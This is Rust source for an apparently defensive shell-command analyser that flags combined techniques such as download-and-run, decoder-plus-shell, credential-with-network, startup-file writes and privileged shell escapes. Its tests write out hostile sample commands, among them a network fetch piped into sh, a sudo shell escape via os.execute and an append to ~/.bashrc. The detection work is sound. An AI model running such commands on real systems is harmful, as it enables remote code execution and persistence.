//! Things that mean little one by one and are a technique together: a download and a shell, a decoder and a shell.

use super::programs::{self, Kind, Kinds};
use super::shape::Shape;
use super::signs::{Signs, Tally};
use crate::command::{Script, SimpleCommand};

/// What a command's words and programs add up to.
#[derive(Debug, Clone, Copy, Default)]
#[expect(clippy::struct_excessive_bools, reason = "each is a feature of its own")]
pub(super) struct Techniques {
    /// The lexicon's entries found.
    pub(super) marks: Tally,
    /// An interpreter or shell is given its program on the command line.
    pub(super) one_liner: bool,
    /// A shell or interpreter reads its program from a pipe.
    pub(super) fed_interpreter: bool,
    /// A program is run by a path that is relative or in a shared directory.
    pub(super) runs_local_file: bool,
    /// A program is run out of a shared directory.
    pub(super) runs_shared_file: bool,
    /// Output goes to `/dev/null`.
    pub(super) silenced: bool,
    /// Programs of no known kind.
    pub(super) unknown_programs: u16,
    /// A file is written by redirection, `tee`, or a program that copies, moves, links or edits.
    pub(super) writes: bool,
    network: bool,
    shell: bool,
    decodes: bool,
    sudo: bool,
}

impl Techniques {
    pub(super) fn of(script: &Script, kinds: Kinds, shape: &Shape) -> Self {
        let mut found = Self {
            marks: marks(script),
            ..Self::default()
        };
        for command in &script.commands {
            found.read(command);
        }
        found.network |= shape.urls + shape.addresses > 0
            || kinds.contains(Kind::Transfer)
            || found.marks.has(super::lexicon::Sign::Socket);
        found.shell |= kinds.contains(Kind::Shell) || found.marks.has(super::lexicon::Sign::Shell);
        found.decodes = kinds.contains(Kind::Encoder) || shape.blob > 0 || shape.escapes > 1;
        found.sudo = kinds.contains(Kind::Privilege);
        found
    }

    fn read(&mut self, command: &SimpleCommand) {
        self.silenced |= command
            .redirections
            .iter()
            .any(|redirection| redirection.target.text == "/dev/null");
        self.writes |= command
            .redirections
            .iter()
            .any(|redirection| redirection.writes() && !redirection.target.text.starts_with("/dev/"));
        let Some(program) = command.program() else { return };
        self.read_program(command, program);
    }

    fn read_program(&mut self, command: &SimpleCommand, program: &str) {
        let kind = programs::kind(program);
        let interprets = matches!(kind, Some(Kind::Shell | Kind::Interpreter));
        let option = |word: &str| {
            matches!(
                word,
                "-c" | "-e" | "-E" | "-r" | "-ne" | "-pe" | "-lc" | "-ic" | "--eval"
            )
        };
        self.one_liner |= interprets && command.arguments().iter().any(|word| option(&word.text));
        self.fed_interpreter |= interprets && command.stage > 0;
        self.unknown_programs = self.unknown_programs.saturating_add(u16::from(kind.is_none()));
        self.writes |= matches!(program, "tee" | "cp" | "mv" | "ln" | "install" | "sed" | "patch" | "dd");
        let path = command.words.first().map_or("", |word| word.text.as_str());
        self.runs_shared_file |= is_shared(path);
        self.runs_local_file |= is_shared(path) || path.starts_with("./") || path.starts_with("../");
    }

    /// Something from or to the network meets a shell.
    pub(super) fn network_and_shell(&self) -> bool {
        self.network && self.shell
    }

    /// Something is fetched, and something of unclear origin is run.
    pub(super) fn download_and_run(&self) -> bool {
        self.network && (self.runs_local_file || self.fed_interpreter)
    }

    /// Something is decoded, and a shell is there to run it.
    pub(super) fn decoder_and_shell(&self) -> bool {
        self.decodes && self.shell
    }

    /// Credentials are named together with the network.
    pub(super) fn credential_and_network(&self) -> bool {
        self.network && self.marks.has(super::lexicon::Sign::Credential)
    }

    /// Something is written where things are started from.
    pub(super) fn startup_written(&self) -> bool {
        self.writes && self.marks.has(super::lexicon::Sign::Startup)
    }

    /// Code, an option or an escape names a shell, in a command that is not a shell's own.
    pub(super) fn shell_out(&self) -> bool {
        use super::lexicon::Sign::{Call, Escape, RunOption, Shell};
        self.marks.has(Shell) && [Call, Escape, RunOption].into_iter().any(|sign| self.marks.has(sign))
    }

    /// The same with another user's rights.
    pub(super) fn privileged_shell_out(&self) -> bool {
        self.sudo && self.shell_out()
    }
}

/// The lexicon's entries in all words, assigned values, redirections and here-documents.
fn marks(script: &Script) -> Tally {
    let mut signs = Signs::default();
    for command in &script.commands {
        for (place, word) in command.words.iter().enumerate() {
            signs.read(&word.text, place == 0);
        }
        for assignment in &command.assignments {
            signs.read(&assignment.name, false);
            signs.read(&assignment.value.text, false);
        }
        for redirection in &command.redirections {
            signs.read(&redirection.target.text, false);
        }
    }
    signs.tally()
}

fn is_shared(path: &str) -> bool {
    ["/tmp/", "/dev/shm/", "/var/tmp/"]
        .iter()
        .any(|directory| path.starts_with(directory))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command;
    use crate::domain::Dialect;

    fn of(text: &str, kinds: &[Kind]) -> Techniques {
        let mut set = Kinds::default();
        for kind in kinds {
            set.insert(*kind);
        }
        Techniques::of(&command::parse(text, Dialect::Bash), set, &Shape::of(text))
    }

    #[test]
    fn a_download_into_a_shell_is_more_than_its_parts() {
        let both = of("fetch http://203.0.113.7/a | sh", &[Kind::Shell]);
        assert!(both.download_and_run() && both.network_and_shell() && both.fed_interpreter);
        let alone = of("fetch http://203.0.113.7/a", &[]);
        assert!(!alone.download_and_run() && !alone.network_and_shell());
    }

    #[test]
    fn a_program_that_starts_a_shell_by_option_or_code_is_seen_whatever_its_name() {
        assert!(of("anything --exec /bin/sh x", &[]).shell_out());
        assert!(of("sudo anything 'os.execute(\"/bin/sh\")'", &[Kind::Privilege]).privileged_shell_out());
        assert!(!of("man bash", &[Kind::Reader]).shell_out());
    }

    #[test]
    fn a_start_place_counts_when_something_is_written() {
        assert!(of("echo x >> ~/.bashrc", &[]).startup_written());
        assert!(!of("cat ~/.bashrc", &[Kind::Reader]).startup_written());
    }
}
